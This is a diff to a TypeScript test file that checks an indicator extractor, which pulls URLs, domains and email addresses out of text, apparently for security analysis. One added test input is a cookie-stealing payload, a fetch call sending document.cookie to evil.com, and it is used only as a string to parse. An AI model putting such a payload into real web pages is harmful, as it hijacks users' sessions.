@@ -56,6 +56,8 @@ const cases: Record<string, [text: string, ...found: string[]][]> = {
     ['<http://evil.com/x>', 'url:http://evil.com/x', 'domain:evil.com'],
     ['"http://evil.com/x", he said', 'url:http://evil.com/x', 'domain:evil.com'],
     ["'http://evil.com/x'", 'url:http://evil.com/x', 'domain:evil.com'],
+    ["fetch('http://evil.com/x?c='+document.cookie)", 'url:http://evil.com/x?c=', 'domain:evil.com'],
+    ["http://evil.com/o'brien", "url:http://evil.com/o'brien", 'domain:evil.com'],
     ['“http://evil.com/x”', 'url:http://evil.com/x', 'domain:evil.com'],
     ['http://evil.com/x!?…', 'url:http://evil.com/x', 'domain:evil.com'],
     ['[here](http://evil.com/x)', 'url:http://evil.com/x', 'domain:evil.com'],
@@ -163,7 +165,7 @@ const cases: Record<string, [text: string, ...found: string[]][]> = {
     ['jörg@bücher.de', 'email:jörg@xn--bcher-kva.de'],
     ['helpdesk@secura.com', 'email:helpdesk@secura.com!own'],
     ['a@b.com;c@d.com', 'email:a@b.com', 'email:c@d.com'],
-    ['bob@localhost'], ['bob@evil'], ['@'], ['a@'], ['me @ work'], [`${'a'.repeat(70)}@evil`], ['Message-ID: <20260101.abc@mail.evil.com>'], ['In-Reply-To: <x1@mail.evil.com>'],
+    ['bob@localhost'], ['bob@evil'], ['@'], ['a@'], ['me @ work'], ['b***7@evil.com', 'domain:evil.com'], [`${'a'.repeat(70)}@evil`], ['Message-ID: <20260101.abc@mail.evil.com>'], ['In-Reply-To: <x1@mail.evil.com>'],
   ],
   'a digest': [
     [md5, `hash:${md5}`],
